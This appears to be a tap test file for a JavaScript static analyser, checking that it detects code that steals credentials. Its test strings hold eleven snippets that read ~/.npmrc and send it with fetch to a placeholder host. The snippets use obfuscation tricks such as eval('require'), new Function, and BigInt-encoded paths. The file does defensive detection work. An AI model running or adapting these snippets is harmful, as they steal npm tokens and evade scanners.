import t from 'tap'
import { summariseJavascript } from '../../src/analysis/javascript/summarise.ts'

const SENT = `'https://c.invalid/'`

/** Ways to name an interface without writing its name: each sends the npm credentials away. */
const WAYS: readonly { readonly name: string; readonly code: string }[] = [
  {
    name: 'a copy of a module',
    code: `const fs = { ...require('fs') }; fetch(${SENT}, { body: fs.readFileSync('~/.npmrc') })`,
  },
  {
    name: 'a copy by Object.assign',
    code: `const fs = Object.assign({}, require('fs')); fetch(${SENT}, { body: fs.readFileSync('~/.npmrc') })`,
  },
  {
    name: 'arguments that are handed on',
    code: `const fs = require('fs'), read = (...all) => fs.readFileSync(...all); fetch(${SENT}, { body: read('~/.npmrc') })`,
  },
  {
    name: 'a name that is evaluated',
    code: `const fs = eval('require')('fs'); fetch(${SENT}, { body: fs.readFileSync('~/.npmrc') })`,
  },
  {
    name: 'a function that returns a name',
    code: `const load = new Function('return require')(); fetch(${SENT}, { body: load('fs').readFileSync('~/.npmrc') })`,
  },
  {
    name: 'the global object of a function',
    code: `Function('return this')().fetch(${SENT}, { body: require('fs').readFileSync('~/.npmrc') })`,
  },
  {
    name: 'a member that is looked for among the others',
    code: `const fs = require('fs'); const name = Object.keys(fs).find((k) => k.startsWith('readFileSyn'));
      fetch(${SENT}, { body: fs[name]('~/.npmrc') })`,
  },
  {
    name: 'a method of lists that is called on one',
    code: `const fs = require('fs'); fetch(${SENT}, { body: fs.readFileSync(Array.prototype.join.call(['~/.n', 'pmrc'], '')) })`,
  },
  {
    name: 'the description of a symbol',
    code: `fetch(${SENT}, { body: require('fs').readFileSync(Symbol('~/.npmrc').description) })`,
  },
  {
    name: 'a number whose bytes are a text',
    code: `fetch(${SENT}, { body: require('fs').readFileSync(Buffer.from(BigInt('0x7e2f2e6e706d7263').toString(16), 'hex').toString()) })`,
  },
  {
    name: 'a number that is taken apart byte by byte',
    code: `let n = 0x7e2f2e6e706d7263n, path = ''; while (n > 0n) { path = String.fromCharCode(Number(n & 255n)) + path; n >>= 8n }
      fetch(${SENT}, { body: require('fs').readFileSync(path) })`,
  },
]

for (const { name, code } of WAYS) {
  t.test(`theft is seen through ${name}`, async (t) => {
    const { flows } = summariseJavascript('a.js', code)
    t.same(
      flows.filter(({ sink }) => sink.kind === 'network').map(({ source, sink }) => [source.kind, sink.deferred]),
      [['secret-file', undefined]],
    )
  })
}

t.test('a copy of what is no module has no members that it was not given', async (t) => {
  const { flows } = summariseJavascript(
    'a.js',
    `const o = { ...settings }; fetch(${SENT}, { body: o.readFileSync('~/.npmrc') })`,
  )
  t.same(flows, [])
})
